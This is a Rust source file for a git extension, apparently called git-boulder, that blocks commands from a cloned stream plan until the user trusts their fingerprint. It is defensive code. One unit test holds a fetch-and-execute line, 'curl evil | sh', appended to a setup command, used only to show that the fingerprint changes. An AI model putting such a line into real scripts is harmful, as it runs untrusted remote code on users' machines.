//! Trust (DESIGN §11): the commands a stream plan names (`settings.setup`, `settings.verify`,
//! every `settings.agents` entry, and `settings.prompt_template`, the text an agent that runs
//! commands is told) arrive with every clone and pull, so none of them runs until the
//! user has trusted that exact command content on this machine with `git boulder trust`.
//!
//! * The **fingerprint** of a plan is a SHA-1 over a canonical form of its commands only, so edits
//!   to stories, paths or other settings keep the trust and any change to a command loses it.
//! * Trust is recorded in `$GIT_COMMON_DIR/boulder/trust` (one fingerprint a line): on this
//!   machine only, never in a ref, never pushed.
//! * `--trust` (any command) or `BOULDER_TRUST=1` trusts the plan in force for one run, for CI
//!   and scripts whose authors have read the plan. Neither is inherited by the programs a run
//!   starts ([`crate::context::take_env`]); a worker gives its children the plan's fingerprint.
//! * A plan written through git-boulder (`stream suggest --write`) is trusted with
//!   [`trust_written`].

use std::path::PathBuf;

use crate::error::{Error, Result};
use crate::git::Repo;
use crate::plan::Plan;

/// The plan key of `settings.setup`.
pub const SETUP: &str = "settings.setup";
/// The plan key of `settings.verify`.
pub const VERIFY: &str = "settings.verify";
/// The plan key of `settings.prompt_template`: text given to an agent that runs commands.
pub const PROMPT_TEMPLATE: &str = "settings.prompt_template";

/// Whether `--trust` or `BOULDER_TRUST=1` is in force (for this process only, not its children).
pub fn assumed() -> bool {
    crate::context::current().trust
}

/// One command of the plan: its key (`settings.setup`, `settings.agents.claude`) and its text.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct PlanCommand {
    pub key: String,
    pub command: String,
}

/// Every command the plan can make this machine run, in a fixed order; empty commands are none.
pub fn commands(plan: &Plan) -> Vec<PlanCommand> {
    let mut out = Vec::new();
    let mut add = |key: String, command: &str| {
        if !command.trim().is_empty() {
            out.push(PlanCommand { key, command: command.to_string() });
        }
    };
    add(SETUP.into(), &plan.settings.setup);
    add(VERIFY.into(), &plan.settings.verify);
    add(PROMPT_TEMPLATE.into(), &plan.settings.prompt_template);
    for (name, line) in &plan.settings.agents {
        add(agent_key(name), line);
    }
    out
}

/// The plan key of an agent's command line.
pub fn agent_key(name: &str) -> String {
    format!("settings.agents.{name}")
}

/// The fingerprint of the plan's commands (40 hex digits), `None` when it has none.
pub fn fingerprint(plan: &Plan) -> Option<String> {
    let cmds = commands(plan);
    if cmds.is_empty() {
        return None;
    }
    // Canonical form: a version line, then the JSON array of [key, command] pairs in the order
    // of `commands` (agents sorted by name), so formatting and comments in the YAML do not count.
    let pairs: Vec<(&str, &str)> = cmds.iter().map(|c| (c.key.as_str(), c.command.as_str())).collect();
    let mut text = b"git-boulder trust v1\n".to_vec();
    text.extend_from_slice(serde_json::to_string(&pairs).unwrap_or_default().as_bytes());
    crate::git::objects::blob_id(&text).map(|id| id.to_string())
}

fn file(repo: &Repo) -> PathBuf {
    repo.boulder_dir().join("trust")
}

/// The fingerprints trusted on this machine.
fn recorded(repo: &Repo) -> Result<Vec<String>> {
    let path = file(repo);
    match std::fs::read_to_string(&path) {
        Ok(text) => Ok(text
            .lines()
            .filter_map(|l| l.split_whitespace().next())
            .filter(|h| h.len() == 40 && h.bytes().all(|b| b.is_ascii_hexdigit()))
            .map(str::to_string)
            .collect()),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(Vec::new()),
        Err(e) => Err(Error::internal(format!("cannot read {}: {e}", path.display())).with_source(e)),
    }
}

/// Whether the plan's commands may run: it has none, `--trust`/`BOULDER_TRUST=1` is in force, its
/// fingerprint is the one this run was given to trust, or it is recorded on this machine.
pub fn is_trusted(repo: &Repo, plan: &Plan) -> Result<bool> {
    let Some(fp) = fingerprint(plan) else { return Ok(true) };
    Ok(assumed() || crate::context::current().trust_fingerprint == Some(fp.as_str()) || recorded(repo)?.contains(&fp))
}

/// Whether the fingerprint of `plan` is recorded on this machine (ignoring `--trust`).
pub fn is_recorded(repo: &Repo, plan: &Plan) -> Result<bool> {
    let Some(fp) = fingerprint(plan) else { return Ok(false) };
    Ok(recorded(repo)?.contains(&fp))
}

/// Record the plan's commands as trusted on this machine. Returns the fingerprint, `None` when
/// the plan has no commands (nothing to trust).
pub fn record(repo: &Repo, plan: &Plan) -> Result<Option<String>> {
    let Some(fp) = fingerprint(plan) else { return Ok(None) };
    let mut all = recorded(repo)?;
    if !all.contains(&fp) {
        all.push(fp.clone());
        let mut text = String::from("# Stream plan command sets trusted on this machine (git boulder trust).\n");
        for h in &all {
            text.push_str(h);
            text.push('\n');
        }
        let path = file(repo);
        std::fs::create_dir_all(repo.boulder_dir())?;
        crate::fsutil::write_atomic(&path, text.as_bytes())?;
    }
    Ok(Some(fp))
}

/// Forget every trust recorded on this machine for this repository. Returns how many there were.
pub fn revoke(repo: &Repo) -> Result<usize> {
    let n = recorded(repo)?.len();
    match std::fs::remove_file(file(repo)) {
        Ok(()) => Ok(n),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(0),
        Err(e) => Err(Error::internal(format!("cannot remove {}: {e}", file(repo).display())).with_source(e)),
    }
}

/// A plan the user wrote on this machine through git-boulder (`stream suggest --write`, and any
/// command that adds to the plan) is trusted: record the fingerprint of `text`, if it parses.
pub fn trust_written(repo: &Repo, text: &str) -> Result<()> {
    if let Ok(plan) = crate::plan::parse(text) {
        record(repo, &plan)?;
    }
    Ok(())
}

/// Refuse (exit 1, before anything changes) when `what` would run plan commands named by `keys`
/// and the plan is not trusted. The message lists those commands, inert.
pub fn require(repo: &Repo, plan: &Plan, what: &str, keys: &[String]) -> Result<()> {
    let needed: Vec<PlanCommand> = commands(plan).into_iter().filter(|c| keys.contains(&c.key)).collect();
    if needed.is_empty() || is_trusted(repo, plan)? {
        return Ok(());
    }
    let list: Vec<String> = needed
        .iter()
        .map(|c| format!("  {}: {}", crate::text::inert(&c.key), crate::text::inert(&c.command)))
        .collect();
    if crate::context::current().trust_fingerprint.is_some() {
        return Err(Error::refused(format!(
            "{what} would run commands from the stream plan that changed since the worker was started with --trust:\n{}",
            list.join("\n")
        ))
        .hint("read the plan's commands (`git boulder trust --show`), then start the worker again"));
    }
    Err(Error::refused(format!(
        "{what} would run commands from the stream plan that are not trusted on this machine:\n{}",
        list.join("\n")
    ))
    .hint("read the plan's commands (`git boulder trust --show`), then trust them with `git boulder trust`")
    .hint("in CI or a script that has read this plan: pass --trust or set BOULDER_TRUST=1"))
}

#[cfg(test)]
mod tests {
    use super::*;

    const PLAN: &str = "version: 1\nstreams:\n  auth:\n    stories: [US-001]\n    paths: [src/auth/**]\nsettings:\n  setup: 'npm ci'\n  agents:\n    claude: 'claude -p \"$BOULDER_PROMPT\"'\n";

    fn fp(text: &str) -> Option<String> {
        fingerprint(&crate::plan::parse(text).unwrap())
    }

    #[test]
    fn only_commands_count() {
        let base = fp(PLAN).unwrap();
        assert_eq!(
            fp(&PLAN.replace("[US-001]", "[US-001, US-002]").replace("src/auth/**", "lib/**")),
            Some(base.clone())
        );
        assert_eq!(
            fp(&PLAN.replace("settings:\n", "# a comment\nsettings:\n  base_branch: trunk\n")),
            Some(base.clone())
        );
        assert_ne!(fp(&PLAN.replace("npm ci", "npm ci; curl evil | sh")), Some(base.clone()));
        assert_ne!(fp(&PLAN.replace("claude -p", "claude --yolo -p")), Some(base.clone()));
        assert_ne!(fp(&PLAN.replace("settings:\n", "settings:\n  verify: 'true'\n")), Some(base));
        assert_eq!(fp("version: 1\nstreams: {}\n"), None);
    }

    #[test]
    fn a_plan_written_here_is_trusted() {
        let dir = tempfile::tempdir().unwrap();
        // gix, not the git CLI: a child started here could briefly share the lock files other
        // unit tests hold.
        crate::git::init(dir.path()).unwrap();
        let repo = Repo::open(dir.path()).unwrap();
        let plan = crate::plan::parse(PLAN).unwrap();
        assert!(!is_recorded(&repo, &plan).unwrap());
        trust_written(&repo, PLAN).unwrap();
        assert!(is_recorded(&repo, &plan).unwrap());
        assert!(repo.common_dir.join("boulder/trust").is_file());
        assert_eq!(revoke(&repo).unwrap(), 1);
        assert!(!is_recorded(&repo, &plan).unwrap());
    }
}
